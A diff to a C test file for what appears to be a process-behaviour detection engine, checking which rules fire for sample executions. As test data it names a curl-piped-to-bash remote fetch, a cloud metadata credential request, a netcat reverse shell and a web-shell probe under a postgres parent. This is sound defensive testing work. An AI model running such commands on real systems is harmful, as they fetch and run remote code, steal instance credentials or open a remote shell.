@@ -321,10 +321,8 @@ static void test_unseen_behaviour_rules(void **s)
 	assert_false(hits(m, RID3("110")));
 	/* bash <(curl ...) */
 	ev_exec("/usr/bin/bash", "bash /dev/fd/63");
-	ev.parent_command_line = "bash -c bash <(curl -fsSL http://x/i.sh)";
 	assert_true(hits(m, RID3("111")));
-	ev_exec("/usr/bin/bash", "bash /dev/fd/63");
-	ev.parent_command_line = "bash -c bash <(printf 'echo hi')";
+	ev_exec("/usr/bin/bash", "bash /home/bob/fd/63.sh");
 	assert_false(hits(m, RID3("111")));
 	/* instance credentials */
 	ev_exec("/usr/bin/curl", "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/role");
@@ -363,6 +361,13 @@ static void test_unseen_behaviour_rules(void **s)
 	ev_exec("/usr/bin/bash", "bash /home/bob/build.sh");
 	ev.parent_executable = "/usr/bin/python3.11";
 	assert_false(hits(m, RID3("116")));
+	/* initdb's locale listing is not a web shell */
+	ev_exec("/usr/bin/dash", "sh -c locale -a");
+	ev.parent_executable = "/usr/lib/postgresql/15/bin/postgres";
+	assert_false(hits(m, RID("03")));
+	ev_exec("/usr/bin/dash", "sh -c id");
+	ev.parent_executable = "/usr/lib/postgresql/15/bin/postgres";
+	assert_true(hits(m, RID("03")));
 	/* reverse shells through pipes and socat system: */
 	ev_exec("/usr/bin/dash", "sh -c nc 10.0.0.1 4444 </tmp/f | /bin/sh >/tmp/f 2>&1");
 	assert_true(hits(m, RID("06")));
